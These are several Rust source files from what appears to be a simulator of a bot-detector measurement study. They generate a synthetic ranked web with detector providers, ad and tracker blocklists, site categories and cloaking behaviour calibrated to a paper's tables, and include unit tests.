/// registrable domain (eTLD+1), as in the paper's "remaining 704 domains".
pub fn minor_provider_domain(index: u32) -> String {
    format!("tp{:03}-adtail.net", index % MINOR_PROVIDER_COUNT)
}

/// Pick a third-party provider domain from a uniform draw in `[0, 1000)`.
/// Top-10 domains take their Table 7 shares; the remainder spreads over the
/// long tail.
pub fn third_party_for_draw(draw: u32) -> String {
    let mut acc = 0;
    for p in TOP_THIRD_PARTY {
        acc += p.weight_per_mille;
        if draw % 1000 < acc {
            return p.domain.to_owned();
        }
    }
    minor_provider_domain(draw)
}

/// First-party bot-management originators (Table 12 / Sec. 4.3.2) with the
/// URL-path patterns their embedded scripts follow and the number of sites
/// they appear on.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum FirstPartyOrigin {
    Akamai,
    Incapsula,
    Unknown,
    Cloudflare,
    PerimeterX,
    /// Self-built or unattributed detectors (the remaining 12%).
    SelfBuilt,
}

impl FirstPartyOrigin {
    pub fn all() -> &'static [FirstPartyOrigin] {
        &[
            FirstPartyOrigin::Akamai,
            FirstPartyOrigin::Incapsula,
            FirstPartyOrigin::Unknown,
            FirstPartyOrigin::Cloudflare,
            FirstPartyOrigin::PerimeterX,
            FirstPartyOrigin::SelfBuilt,
        ]
    }

    /// Calibrated number of sites (Table 12; SelfBuilt absorbs the rest of
    /// the 3,867 first-party detector sites).
    pub fn site_count(&self) -> u32 {
        match self {
            FirstPartyOrigin::Akamai => 1004,
            FirstPartyOrigin::Incapsula => 998,
            FirstPartyOrigin::Unknown => 659,
            FirstPartyOrigin::Cloudflare => 486,
            FirstPartyOrigin::PerimeterX => 134,
            FirstPartyOrigin::SelfBuilt => 586,
        }
    }

    /// Total first-party detector sites (3,867 in the paper).
    pub fn total_sites() -> u32 {
        FirstPartyOrigin::all().iter().map(|o| o.site_count()).sum()
    }

    /// URL path of the embedded detector on a given site (Table 12's
    /// similarity patterns — these are what the attribution clustering in
    /// the scan recovers).
    pub fn script_path(&self, site_hash: u64) -> String {
        match self {
            FirstPartyOrigin::Akamai => "/akam/11/pixel".to_owned(),
            FirstPartyOrigin::Incapsula => "/_Incapsula_Resource".to_owned(),
            FirstPartyOrigin::Unknown => format!("/assets/{:032x}", site_hash),
            FirstPartyOrigin::Cloudflare => "/cdn-cgi/bm/cv/2172558837/api.js".to_owned(),
            FirstPartyOrigin::PerimeterX => {
                let alphabet = b"abcdefghjkmnpqrstuvwxyz0";
                let mut s = String::new();
                let mut h = site_hash | 1;
                for _ in 0..8 {
                    s.push(alphabet[(h % 24) as usize] as char);
                    h /= 24;
                }
                format!("/{s}/init.js")
            }
            FirstPartyOrigin::SelfBuilt => "/js/bot-check.js".to_owned(),
        }
    }

    pub fn label(&self) -> &'static str {
        match self {
            FirstPartyOrigin::Akamai => "Akamai",
            FirstPartyOrigin::Incapsula => "Incapsula",
            FirstPartyOrigin::Unknown => "Unknown",
            FirstPartyOrigin::Cloudflare => "Cloudflare",
            FirstPartyOrigin::PerimeterX => "PerimeterX",
            FirstPartyOrigin::SelfBuilt => "SelfBuilt",
        }
    }
}

/// OpenWPM-specific detector providers (Table 6): domain, number of
/// including sites, which properties their scripts probe, and the technique
/// (CHEQ is plain — found statically *and* dynamically; the others are
/// obfuscated/dynamic — dynamic-only).
#[derive(Clone, Copy, Debug)]
pub struct OpenWpmProvider {
    pub domain: &'static str,
    pub sites: u32,
    pub props: &'static [&'static str],
    pub technique: Technique,
}

pub const OPENWPM_PROVIDERS: &[OpenWpmProvider] = &[
    OpenWpmProvider {
        domain: "cheqzone.com",
        sites: 331,
        props: &["jsInstruments"],
        technique: Technique::Plain,
    },
    OpenWpmProvider {
        domain: "googlesyndication.com",
        sites: 14,
        props: &["instrumentFingerprintingApis", "jsInstruments", "getInstrumentJS"],
        technique: Technique::Constructed,
    },
    OpenWpmProvider {
        domain: "google.com",
        sites: 9,
        props: &["instrumentFingerprintingApis", "getInstrumentJS", "jsInstruments"],
        technique: Technique::Constructed,
    },
    OpenWpmProvider {
        domain: "adzouk1tag.com",
        sites: 2,
        props: &["jsInstruments"],
        technique: Technique::Constructed,
    },
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn third_party_weights_cover_table7_shares() {
        let top_sum: u32 = TOP_THIRD_PARTY.iter().map(|p| p.weight_per_mille).sum();
        // Top-10 account for ~71% of inclusions (Table 7: 70.9%).
        assert!((700..=720).contains(&top_sum), "sum = {top_sum}");
    }

    #[test]
    fn draws_map_to_domains_deterministically() {
        assert_eq!(third_party_for_draw(0), "yandex.ru");
        assert_eq!(third_party_for_draw(179), "yandex.ru");
        assert_eq!(third_party_for_draw(180), "adsafeprotected.com");
        let tail = third_party_for_draw(999);
        assert!(tail.contains("adtail.net"));
    }

    #[test]
    fn first_party_totals_match_paper() {
        assert_eq!(FirstPartyOrigin::total_sites(), 3867);
        assert_eq!(FirstPartyOrigin::Akamai.site_count(), 1004);
    }

    #[test]
    fn first_party_paths_follow_table12_patterns() {
        assert!(FirstPartyOrigin::Akamai.script_path(1).starts_with("/akam/11/"));
        assert!(FirstPartyOrigin::Incapsula.script_path(1).contains("_Incapsula_Resource"));
        assert!(FirstPartyOrigin::Cloudflare.script_path(1).contains("/cdn-cgi/bm/cv/"));
        let px = FirstPartyOrigin::PerimeterX.script_path(12345);
        assert!(px.ends_with("/init.js"));
        assert_eq!(px.split('/').nth(1).unwrap().len(), 8);
        // Unknown uses a long per-site hash.
        let u1 = FirstPartyOrigin::Unknown.script_path(1);
        let u2 = FirstPartyOrigin::Unknown.script_path(2);
        assert_ne!(u1, u2);
        assert!(u1.starts_with("/assets/"));
    }

    #[test]
    fn openwpm_provider_totals() {
        let total: u32 = OPENWPM_PROVIDERS.iter().map(|p| p.sites).sum();
        assert_eq!(total, 356);
        assert_eq!(OPENWPM_PROVIDERS[0].domain, "cheqzone.com");
        assert_eq!(OPENWPM_PROVIDERS[0].sites, 331);
    }
}
