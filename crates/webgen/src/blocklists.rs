//! Generated EasyList / EasyPrivacy simulacra covering the population's ad
//! and tracker host pools (Table 9's methodology: "use the EasyList and
//! EasyPrivacy blocklists to identify trackers").

use netsim::{Blocklist, BlocklistKind};

use crate::behaviour::{AD_DOMAINS, TRACKER_DOMAINS};

/// Render the EasyList text (ads).
pub fn easylist_text() -> String {
    let mut out = String::from("! Title: EasyList (population simulacrum)\n");
    for d in AD_DOMAINS {
        out.push_str(&format!("||{d}^\n"));
    }
    out.push_str("/ads/slot\n");
    out
}

/// Render the EasyPrivacy text (trackers).
pub fn easyprivacy_text() -> String {
    let mut out = String::from("! Title: EasyPrivacy (population simulacrum)\n");
    for d in TRACKER_DOMAINS {
        out.push_str(&format!("||{d}^\n"));
    }
    out.push_str("/collect/t\n");
    out
}

/// Parse both lists.
pub fn easylist() -> Blocklist {
    Blocklist::parse(BlocklistKind::EasyList, &easylist_text())
}

pub fn easyprivacy() -> Blocklist {
    Blocklist::parse(BlocklistKind::EasyPrivacy, &easyprivacy_text())
}

#[cfg(test)]
mod tests {
    use super::*;
    use netsim::{HttpRequest, ResourceType, Url};

    fn req(target: &str) -> HttpRequest {
        HttpRequest {
            url: Url::parse(target).unwrap(),
            page: Url::parse("https://w000001.com/").unwrap(),
            resource_type: ResourceType::Image,
            method: "GET",
            time_ms: 0,
        }
    }

    #[test]
    fn easylist_matches_ad_traffic() {
        let list = easylist();
        assert!(list.rule_count() > AD_DOMAINS.len());
        assert!(list.matches(&req("https://moatads.com/ads/slot3.png")));
        assert!(list.matches(&req("https://w000001.com/ads/slot0.png"))); // path rule
        assert!(!list.matches(&req("https://w000001.com/static/r1.png")));
    }

    #[test]
    fn easyprivacy_matches_tracker_traffic() {
        let list = easyprivacy();
        assert!(list.matches(&req("https://yandex.ru/collect/t1.bin")));
        assert!(list.matches(&req("https://metrics.example/x.gif")));
        assert!(!list.matches(&req("https://jsdelivr.net/lib.js")));
    }

    #[test]
    fn lists_are_roughly_disjoint() {
        // EasyList and EasyPrivacy overlap barely in the paper's counts;
        // our pools are disjoint by construction.
        let el = easylist();
        let ep = easyprivacy();
        for d in AD_DOMAINS {
            assert!(!ep.matches(&req(&format!("https://{d}/static/x.png"))), "{d}");
        }
        for d in TRACKER_DOMAINS {
            assert!(!el.matches(&req(&format!("https://{d}/static/x.png"))), "{d}");
        }
    }
}
