//! Website categories (the Symantec-sitereview taxonomy the paper uses for
//! Fig. 5), with distributions conditioned on detector deployment.

/// The categories appearing in Fig. 5.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum Category {
    News,
    Technology,
    Business,
    Shopping,
    Finance,
    Travel,
    Entertainment,
    Education,
    Government,
    Health,
    Sports,
    Social,
    Gambling,
    Adult,
    Gaming,
    Other,
}

impl Category {
    pub fn all() -> &'static [Category] {
        &[
            Category::News,
            Category::Technology,
            Category::Business,
            Category::Shopping,
            Category::Finance,
            Category::Travel,
            Category::Entertainment,
            Category::Education,
            Category::Government,
            Category::Health,
            Category::Sports,
            Category::Social,
            Category::Gambling,
            Category::Adult,
            Category::Gaming,
            Category::Other,
        ]
    }

    pub fn name(&self) -> &'static str {
        match self {
            Category::News => "News",
            Category::Technology => "Technology",
            Category::Business => "Business",
            Category::Shopping => "Shopping",
            Category::Finance => "Finance",
            Category::Travel => "Travel",
            Category::Entertainment => "Entertainment",
            Category::Education => "Education",
            Category::Government => "Government",
            Category::Health => "Health",
            Category::Sports => "Sports",
            Category::Social => "Social",
            Category::Gambling => "Gambling",
            Category::Adult => "Adult",
            Category::Gaming => "Gaming",
            Category::Other => "Other",
        }
    }

    /// Inverse of [`Category::name`] — used to decode checkpointed scan
    /// records. Returns `None` for unknown names.
    pub fn from_name(name: &str) -> Option<Category> {
        Category::all().iter().copied().find(|c| c.name() == name)
    }
}

/// Per-mille weights over [`Category::all`] for sites that include
/// *third-party* detectors (Fig. 5: News 18.4%, Technology 9%, Business 7%,
/// Shopping 5%…).
pub const THIRD_PARTY_WEIGHTS: &[u32] =
    &[184, 90, 70, 50, 30, 20, 95, 60, 25, 45, 55, 65, 30, 35, 46, 100];

/// Weights for sites with *first-party* detectors (Fig. 5: Shopping 16.4%,
/// Finance 8%, Travel 7%, News 5% — the rank switch the paper highlights).
pub const FIRST_PARTY_WEIGHTS: &[u32] =
    &[50, 80, 75, 164, 80, 70, 60, 40, 30, 40, 50, 45, 40, 26, 50, 100];

/// Background distribution for sites without detectors.
pub const BASE_WEIGHTS: &[u32] =
    &[60, 80, 90, 80, 40, 40, 90, 70, 40, 60, 60, 60, 20, 40, 50, 120];

/// Pick a category from weights using a uniform draw.
pub fn pick(weights: &[u32], draw: u32) -> Category {
    let total: u32 = weights.iter().sum();
    let mut x = draw % total;
    for (i, w) in weights.iter().enumerate() {
        if x < *w {
            return Category::all()[i];
        }
        x -= w;
    }
    Category::Other
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn weights_cover_all_categories() {
        assert_eq!(THIRD_PARTY_WEIGHTS.len(), Category::all().len());
        assert_eq!(FIRST_PARTY_WEIGHTS.len(), Category::all().len());
        assert_eq!(BASE_WEIGHTS.len(), Category::all().len());
    }

    #[test]
    fn news_dominates_third_party_distribution() {
        let mut counts = std::collections::HashMap::new();
        for draw in 0..1000 {
            *counts.entry(pick(THIRD_PARTY_WEIGHTS, draw)).or_insert(0) += 1;
        }
        assert_eq!(counts[&Category::News], 184);
        assert!(counts[&Category::News] > counts[&Category::Shopping]);
    }

    #[test]
    fn shopping_dominates_first_party_distribution() {
        let mut counts = std::collections::HashMap::new();
        for draw in 0..1000 {
            *counts.entry(pick(FIRST_PARTY_WEIGHTS, draw)).or_insert(0) += 1;
        }
        assert_eq!(counts[&Category::Shopping], 164);
        assert!(counts[&Category::Shopping] > counts[&Category::News]);
    }

    #[test]
    fn from_name_roundtrips_every_category() {
        for c in Category::all() {
            assert_eq!(Category::from_name(c.name()), Some(*c));
        }
        assert_eq!(Category::from_name("NotACategory"), None);
        assert_eq!(Category::from_name("news"), None);
    }

    #[test]
    fn pick_is_total_over_draw_space() {
        for draw in (0..5000).step_by(7) {
            let _ = pick(BASE_WEIGHTS, draw);
        }
    }
}
