//! Deterministic site-plan generation for the synthetic Tranco-100K.
//!
//! Every site is derived on demand from `(population seed, rank)` — nothing
//! is stored, so the 100K population costs no memory and every crawl is
//! bit-reproducible. Assignment of detector features is calibrated to the
//! paper's measured totals (Tables 5–7, 11–12); the calibration constants
//! live in [`Targets`] with the derivation documented inline. Small exact
//! counts (first-party origins, OpenWPM-specific providers) use a
//! permutation assignment (exact); large counts use hashed thresholds
//! (binomial, within ~1% of target at n = 100K).

use detect::Technique;
use netsim::Url;

use crate::categories::{self, Category};
use crate::providers::{
    third_party_for_draw, FirstPartyOrigin, OpenWpmProvider, OPENWPM_PROVIDERS,
};

/// Calibration targets and derived probabilities. All counts are the
/// paper's, for a 100K population; probabilities are expressed as
/// per-100K thresholds so they scale to smaller test populations.
#[derive(Clone, Copy, Debug)]
pub struct Targets {
    /// Hashed (bulk third-party) front-page detector sites.
    /// Front union 13,989 minus 4,223 forced (first-party 3,867 +
    /// OpenWPM-specific 356) ≈ 9,766.
    pub front_hashed_per_100k: u32,
    /// Mix within hashed front detector sites (per mille):
    /// both static+dynamic / static-only (hover-gated) / dynamic-only
    /// (constructed). From front counts: static 11,897, dynamic 12,208,
    /// union 13,989 ⇒ 5,918 / 1,781 / 2,067 of 9,766.
    pub front_both_pm: u32,
    pub front_static_only_pm: u32,
    /// Subpage-only detector sites: union 18,714 − 13,989 = 4,725 of the
    /// ~86K front-clean sites ⇒ 5.49 per 100.
    pub sub_extra_per_100k: u32,
    /// Mix within subpage-only sites: 3,770 / 171 / 784 of 4,725.
    pub sub_both_pm: u32,
    pub sub_static_only_pm: u32,
    /// Benign webdriver-mention sites: naive-pattern false positives.
    /// identified static 32,694 = true 15,838 + p·(100K − 15,838)
    /// ⇒ p ≈ 20.0 per 100.
    pub benign_mention_per_100k: u32,
    /// Iterator (generic fingerprinting) sites: dynamic identified 19,139 =
    /// true 16,762 + q·(100K − 16,762) ⇒ q ≈ 2.86 per 100.
    pub iterator_per_100k: u32,
    /// Probability a third-party detector site includes a *second*
    /// provider: 21,325 inclusions ≈ (14,491 hashed sites)(1+x) + 356
    /// ⇒ x ≈ 0.45.
    pub second_provider_pm: u32,
    /// Strict-CSP sites (Sec. 6.3.1: 113 of 1,487 ⇒ 7.6 per 100).
    pub strict_csp_per_100k: u32,
    /// Subpages linked from the landing page (the crawler follows ≤ 3).
    pub max_subpages: u32,
    /// Chronically unreliable sites (slow hosts, crash-prone markup):
    /// the fault injector boosts its rates on these. Zero by default so
    /// calibrated aggregates are untouched unless a robustness experiment
    /// opts in.
    pub flaky_per_100k: u32,
}

impl Default for Targets {
    fn default() -> Targets {
        Targets {
            front_hashed_per_100k: 9_766,
            front_both_pm: 590,
            front_static_only_pm: 160,
            sub_extra_per_100k: 5_950,
            sub_both_pm: 820,
            sub_static_only_pm: 20,
            benign_mention_per_100k: 20_030,
            iterator_per_100k: 2_856,
            second_provider_pm: 450,
            strict_csp_per_100k: 7_600,
            max_subpages: 3,
            flaky_per_100k: 0,
        }
    }
}

/// The synthetic ranked web.
#[derive(Clone, Copy, Debug)]
pub struct Population {
    pub n_sites: u32,
    pub seed: u64,
    pub targets: Targets,
}

/// Detector configuration of one page class (front or subpage).
#[derive(Clone, Debug, Default)]
pub struct PageDetectors {
    /// Third-party detector inclusions: `(hosting domain, technique)`.
    pub third_party: Vec<(String, Technique)>,
}

impl PageDetectors {
    pub fn is_empty(&self) -> bool {
        self.third_party.is_empty()
    }
}

/// Adaptive (cloaking) behaviour of a site towards flagged bots.
#[derive(Clone, Copy, Debug, Default)]
pub struct CloakPolicy {
    /// Fraction (per mille) of tracking cookies withheld from flagged bots.
    pub tracking_withhold_pm: u32,
    /// Fraction (per mille) of ad/tracker requests withheld.
    pub tracker_withhold_pm: u32,
    /// Site re-identifies clients across runs and escalates throttling.
    pub reidentifies: bool,
}

/// Everything knowable about a site before visiting it.
#[derive(Clone, Debug)]
pub struct SitePlan {
    pub rank: u32,
    pub domain: String,
    pub categories: Vec<Category>,
    pub front: PageDetectors,
    /// Detectors present on subpages (site-wide inclusions propagate here).
    pub subpage: PageDetectors,
    pub subpage_count: u32,
    pub first_party: Option<FirstPartyOrigin>,
    pub openwpm_provider: Option<&'static OpenWpmProvider>,
    pub benign_mention: bool,
    pub iterator: bool,
    pub strict_csp: bool,
    pub cloak: CloakPolicy,
    /// Chronically unreliable host (see `Targets::flaky_per_100k`).
    pub flaky: bool,
    /// Per-site deterministic seed for content generation.
    pub site_seed: u64,
}

impl SitePlan {
    /// Does any detector run on the front page?
    pub fn front_has_detector(&self) -> bool {
        !self.front.is_empty() || self.first_party.is_some() || self.openwpm_provider.is_some()
    }

    /// Does any detector run anywhere on the site (front or subpages)?
    pub fn site_has_detector(&self) -> bool {
        self.front_has_detector() || !self.subpage.is_empty()
    }

    pub fn front_url(&self) -> Url {
        Url::parse(&format!("https://{}/", self.domain)).unwrap()
    }

    pub fn subpage_url(&self, i: u32) -> Url {
        Url::parse(&format!("https://{}/page{}.html", self.domain, i + 1)).unwrap()
    }
}

/// SplitMix64 — the workhorse hash.
fn splitmix(mut x: u64) -> u64 {
    x = x.wrapping_add(0x9E37_79B9_7F4A_7C15);
    x = (x ^ (x >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
    x = (x ^ (x >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
    x ^ (x >> 31)
}

impl Population {
    pub fn new(n_sites: u32, seed: u64) -> Population {
        Population { n_sites, seed, targets: Targets::default() }
    }

    fn h(&self, rank: u32, salt: u64) -> u64 {
        splitmix(self.seed ^ (rank as u64).wrapping_mul(0x100_0000_01B3) ^ salt)
    }

    /// Uniform draw in `[0, m)`.
    fn draw(&self, rank: u32, salt: u64, m: u32) -> u32 {
        (self.h(rank, salt) % m as u64) as u32
    }

    /// Exact-count permutation assignment: returns the site's position in a
    /// pseudo-random bijection of ranks, for carving disjoint exact slices.
    fn perm_pos(&self, rank: u32, mult: u64) -> u64 {
        // A multiplier coprime with n gives a bijection on [0, n).
        let n = self.n_sites as u64;
        ((rank as u64).wrapping_mul(mult).wrapping_add(splitmix(self.seed) % n)) % n
    }

    /// Front-page detector probability for a rank, per 100K, with the
    /// rank decay of Fig. 4 (top sites deploy bot defences more often).
    /// Averages to `front_hashed_per_100k` over the population.
    fn front_probability_per_100k(&self, rank: u32) -> u32 {
        let avg = self.targets.front_hashed_per_100k as f64;
        // decay(r) = 0.64 + 1.2·exp(−r/0.3n); population mean ≈ 0.987.
        let x = rank as f64 / (0.3 * self.n_sites as f64);
        let decay = 0.64 + 1.2 * (-x).exp();
        (avg * decay / 0.987) as u32
    }

    /// Build the plan for `rank` (1-based).
    pub fn plan(&self, rank: u32) -> SitePlan {
        let t = &self.targets;
        let n = self.n_sites;
        let site_seed = self.h(rank, 0xBEEF);

        // --- forced exact assignments (disjoint permutation slices) ---
        let fp_pos = self.perm_pos(rank, 104_729);
        let mut acc = 0u64;
        let mut first_party = None;
        for origin in FirstPartyOrigin::all() {
            let count = if n == 100_000 {
                origin.site_count() as u64
            } else {
                (origin.site_count() as u64 * n as u64).div_ceil(100_000)
            };
            if fp_pos >= acc && fp_pos < acc + count {
                first_party = Some(*origin);
            }
            acc += count;
        }
        let owpm_pos = self.perm_pos(rank, 60_013);
        let mut acc = 0u64;
        let mut openwpm_provider = None;
        for p in OPENWPM_PROVIDERS {
            let count = if n == 100_000 {
                p.sites as u64
            } else {
                ((p.sites as u64 * n as u64) / 100_000).max(1)
            };
            if owpm_pos >= acc && owpm_pos < acc + count {
                openwpm_provider = Some(p);
            }
            acc += count;
        }

        // --- hashed bulk assignments ---
        let front_hit =
            self.draw(rank, 0xF807, 100_000) < self.front_probability_per_100k(rank);
        let technique_for = |draw: u32, both_pm: u32, static_only_pm: u32| -> Technique {
            let d = draw % 1000;
            if d < both_pm {
                // Both-findable probes in three concrete forms.
                match draw % 3 {
                    0 => Technique::Plain,
                    1 => Technique::Indexed,
                    _ => Technique::HexEscaped,
                }
            } else if d < both_pm + static_only_pm {
                Technique::HoverGated
            } else {
                Technique::Constructed
            }
        };
        let mut front = PageDetectors::default();
        if front_hit {
            let tdraw = self.draw(rank, 0x7EC4, 1_000_000);
            let technique = technique_for(tdraw, t.front_both_pm, t.front_static_only_pm);
            let pdraw = self.draw(rank, 0x9807, 1000);
            front.third_party.push((third_party_for_draw(pdraw), technique));
            if self.draw(rank, 0x2ECD, 1000) < t.second_provider_pm {
                let pdraw2 = self.draw(rank, 0x2ECE, 1000);
                let technique2 = technique_for(
                    self.draw(rank, 0x2ECF, 1_000_000),
                    t.front_both_pm,
                    t.front_static_only_pm,
                );
                let domain2 = third_party_for_draw(pdraw2);
                if domain2 != front.third_party[0].0 {
                    front.third_party.push((domain2, technique2));
                }
            }
        }

        // Subpage detectors: site-wide inclusions propagate; plus
        // subpage-only detectors on otherwise-clean front pages.
        let mut subpage = front.clone();
        let front_any = front_hit || first_party.is_some() || openwpm_provider.is_some();
        if !front_any && self.draw(rank, 0x50B5, 100_000) < t.sub_extra_per_100k {
            let tdraw = self.draw(rank, 0x50B6, 1_000_000);
            let technique = technique_for(tdraw, t.sub_both_pm, t.sub_static_only_pm);
            let pdraw = self.draw(rank, 0x50B7, 1000);
            subpage.third_party.push((third_party_for_draw(pdraw), technique));
        }

        let benign_mention = self.draw(rank, 0xBE9, 100_000) < t.benign_mention_per_100k;
        let iterator = self.draw(rank, 0x17E2, 100_000) < t.iterator_per_100k;
        let strict_csp = self.draw(rank, 0xC59, 100_000) < t.strict_csp_per_100k;
        let flaky = self.draw(rank, 0xF1A2, 100_000) < t.flaky_per_100k;

        // --- categories, conditioned on detector deployment (Fig. 5) ---
        let cdraw = self.draw(rank, 0xCA7, 1_000_000);
        let primary = if first_party.is_some() {
            categories::pick(categories::FIRST_PARTY_WEIGHTS, cdraw)
        } else if front_any || !subpage.is_empty() {
            categories::pick(categories::THIRD_PARTY_WEIGHTS, cdraw)
        } else {
            categories::pick(categories::BASE_WEIGHTS, cdraw)
        };
        let mut cats = vec![primary];
        if self.draw(rank, 0xCA8, 1000) < 350 {
            let secondary = categories::pick(categories::BASE_WEIGHTS, cdraw / 7 + 13);
            if secondary != primary {
                cats.push(secondary);
            }
        }

        // --- cloaking policy (only meaningful for detector sites) ---
        let cloak = CloakPolicy {
            tracking_withhold_pm: 150 + self.draw(rank, 0xC10A, 300),
            tracker_withhold_pm: 30 + self.draw(rank, 0xC10B, 60),
            reidentifies: self.draw(rank, 0xC10C, 1000) < 600,
        };

        // A site can only serve subpage detectors if it has subpages the
        // crawler can reach.
        let mut subpage_count = self.draw(rank, 0x5BC, t.max_subpages + 1);
        if !front_any && !subpage.is_empty() {
            subpage_count = subpage_count.max(1);
        }

        let tld = ["com", "net", "org", "io", "de", "co.uk"][(self.h(rank, 0x71D) % 6) as usize];
        SitePlan {
            rank,
            domain: format!("w{rank:06}.{tld}"),
            categories: cats,
            front,
            subpage,
            subpage_count,
            first_party,
            openwpm_provider,
            benign_mention,
            iterator,
            strict_csp,
            cloak,
            flaky,
            site_seed,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn pop100k() -> Population {
        Population::new(100_000, 0xDEAD_BEEF)
    }

    #[test]
    fn plans_are_deterministic() {
        let p = pop100k();
        let a = p.plan(42);
        let b = p.plan(42);
        assert_eq!(a.domain, b.domain);
        assert_eq!(a.front.third_party, b.front.third_party);
        assert_eq!(a.site_seed, b.site_seed);
    }

    #[test]
    fn first_party_counts_exact_at_100k() {
        let p = pop100k();
        let mut counts = std::collections::HashMap::new();
        for rank in 0..100_000 {
            if let Some(origin) = p.plan(rank).first_party {
                *counts.entry(origin.label()).or_insert(0u32) += 1;
            }
        }
        assert_eq!(counts["Akamai"], 1004);
        assert_eq!(counts["Incapsula"], 998);
        assert_eq!(counts["Unknown"], 659);
        assert_eq!(counts["Cloudflare"], 486);
        assert_eq!(counts["PerimeterX"], 134);
        let total: u32 = counts.values().sum();
        assert_eq!(total, FirstPartyOrigin::total_sites());
    }

    #[test]
    fn openwpm_provider_counts_exact_at_100k() {
        let p = pop100k();
        let mut counts = std::collections::HashMap::new();
        for rank in 0..100_000 {
            if let Some(prov) = p.plan(rank).openwpm_provider {
                *counts.entry(prov.domain).or_insert(0u32) += 1;
            }
        }
        assert_eq!(counts["cheqzone.com"], 331);
        assert_eq!(counts["googlesyndication.com"], 14);
        assert_eq!(counts["google.com"], 9);
        assert_eq!(counts["adzouk1tag.com"], 2);
    }

    #[test]
    fn front_detector_rate_near_14_percent() {
        let p = pop100k();
        let mut front = 0u32;
        for rank in 0..100_000 {
            if p.plan(rank).front_has_detector() {
                front += 1;
            }
        }
        // Paper: 13,989 front-page detector sites. Binomial noise plus
        // forced-assignment overlap allows ~±4%.
        assert!(
            (13_400..=14_600).contains(&front),
            "front detector sites = {front}, target ≈ 13,989"
        );
    }

    #[test]
    fn site_detector_rate_near_19_percent() {
        let p = pop100k();
        let mut any = 0u32;
        for rank in 0..100_000 {
            if p.plan(rank).site_has_detector() {
                any += 1;
            }
        }
        assert!(
            (17_900..=19_500).contains(&any),
            "detector sites incl. subpages = {any}, target ≈ 18,714"
        );
    }

    #[test]
    fn top_ranks_have_more_detectors_than_tail() {
        let p = pop100k();
        let count = |range: std::ops::Range<u32>| {
            range.filter(|&r| p.plan(r).front_has_detector()).count()
        };
        let top = count(0..5_000);
        let tail = count(95_000..100_000);
        assert!(
            top as f64 > tail as f64 * 1.5,
            "top-5K {top} vs bottom-5K {tail}: Fig. 4 decay missing"
        );
    }

    #[test]
    fn detector_sites_favour_news_and_shopping() {
        let p = pop100k();
        let mut news_tp = 0;
        let mut shop_fp = 0;
        let mut fp_sites = 0;
        let mut tp_sites = 0;
        for rank in 0..100_000 {
            let plan = p.plan(rank);
            if plan.first_party.is_some() {
                fp_sites += 1;
                if plan.categories[0] == Category::Shopping {
                    shop_fp += 1;
                }
            } else if plan.site_has_detector() {
                tp_sites += 1;
                if plan.categories[0] == Category::News {
                    news_tp += 1;
                }
            }
        }
        let news_share = news_tp as f64 / tp_sites as f64;
        let shop_share = shop_fp as f64 / fp_sites as f64;
        assert!((0.15..0.22).contains(&news_share), "news share {news_share}");
        assert!((0.13..0.20).contains(&shop_share), "shopping share {shop_share}");
    }

    #[test]
    fn flaky_sites_appear_only_when_opted_in() {
        let mut p = Population::new(10_000, 11);
        assert!(
            (0..10_000).all(|r| !p.plan(r).flaky),
            "default populations must have no flaky sites"
        );
        p.targets.flaky_per_100k = 10_000; // 10%
        let flaky = (0..10_000).filter(|&r| p.plan(r).flaky).count();
        assert!((800..=1200).contains(&flaky), "flaky = {flaky}");
    }

    #[test]
    fn scales_down_to_small_populations() {
        let p = Population::new(2_000, 7);
        let mut detectors = 0;
        for rank in 0..2_000 {
            if p.plan(rank).site_has_detector() {
                detectors += 1;
            }
        }
        // ~19% ± generous noise at n=2,000.
        assert!((280..=480).contains(&detectors), "detectors = {detectors}");
    }
}
