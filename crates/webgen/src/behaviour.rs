//! Site content generation and adaptive (cloaking) behaviour.
//!
//! Models what the paper's Sec. 6.3 measures: sites serve a deterministic
//! base of resources and cookies, plus an "engagement" layer — ads,
//! retargeting pixels, analytics beacons, tracking cookies — that bot-flagged
//! clients receive *less* of, with sites that re-identify clients
//! escalating the throttling across repeated runs (the effect the paper
//! sees amplify from r1 to r3 in Tables 8–10).
//!
//! Both clients of a comparison see identical shared content for a given
//! `(site, run)`; differences arise only from (a) the site's bot verdict
//! and (b) small client-local rotation noise on volatile resource classes
//! (ad rotation — the `media` row of Table 8 is noisy in the paper too).

use netsim::{Cookie, ResourceType};
use openwpm::SiteResponse;

use crate::site::SitePlan;

/// Where a generated request points.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum DomainClass {
    FirstParty,
    Ad,      // matches the EasyList simulacrum
    Tracker, // matches the EasyPrivacy simulacrum
    Benign,  // CDNs and other third parties
}

/// Per-resource-type content parameters, calibrated to Table 8's per-site
/// means over the 1,487 comparison sites, with the withheld (bot-throttled)
/// share set to the r1 Diff column.
struct TypeParams {
    rt: ResourceType,
    /// Mean requests per site visit (millis: 78_200 = 78.2).
    mean_milli: u32,
    /// Share withheld from flagged bots (per mille).
    withhold_pm: u32,
    /// Client-local noise amplitude (per mille of the count).
    noise_pm: u32,
    /// Domain-class distribution (per mille): first, ad, tracker, benign.
    classes: [u32; 4],
}

const CONTENT: &[TypeParams] = &[
    TypeParams { rt: ResourceType::Image, mean_milli: 78_200, withhold_pm: 15, noise_pm: 12, classes: [520, 130, 80, 270] },
    TypeParams { rt: ResourceType::Script, mean_milli: 55_000, withhold_pm: 14, noise_pm: 10, classes: [450, 120, 100, 330] },
    TypeParams { rt: ResourceType::XmlHttpRequest, mean_milli: 39_000, withhold_pm: 46, noise_pm: 15, classes: [420, 160, 280, 140] },
    TypeParams { rt: ResourceType::SubFrame, mean_milli: 10_350, withhold_pm: 13, noise_pm: 15, classes: [250, 500, 50, 200] },
    TypeParams { rt: ResourceType::Stylesheet, mean_milli: 6_690, withhold_pm: 9, noise_pm: 8, classes: [600, 0, 0, 400] },
    TypeParams { rt: ResourceType::Font, mean_milli: 6_460, withhold_pm: 0, noise_pm: 16, classes: [350, 0, 0, 650] },
    TypeParams { rt: ResourceType::ImageSet, mean_milli: 3_850, withhold_pm: 42, noise_pm: 25, classes: [400, 300, 100, 200] },
    TypeParams { rt: ResourceType::Beacon, mean_milli: 3_600, withhold_pm: 101, noise_pm: 25, classes: [50, 150, 750, 50] },
